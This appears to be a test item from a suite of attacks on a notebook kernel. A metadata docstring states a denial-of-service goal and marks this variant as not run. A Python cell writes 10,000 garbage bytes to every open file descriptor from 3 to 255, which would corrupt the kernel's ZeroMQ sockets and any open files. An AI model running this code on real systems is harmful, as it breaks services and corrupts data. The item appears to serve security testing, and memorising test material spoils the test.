"""
what = "writes garbage to every open descriptor"
goal = "deny service"
success = "broken"
start = "solution"
honest = 13
control = "not run: a kernel's results travel through ZeroMQ, whose threads check what arrives; forged_result forges them properly"
"""

# %% xor
import os

for number in range(3, 256):
    try:
        os.set_blocking(number, False)
        os.write(number, b"\xff" * 10_000)
    except OSError:
        pass
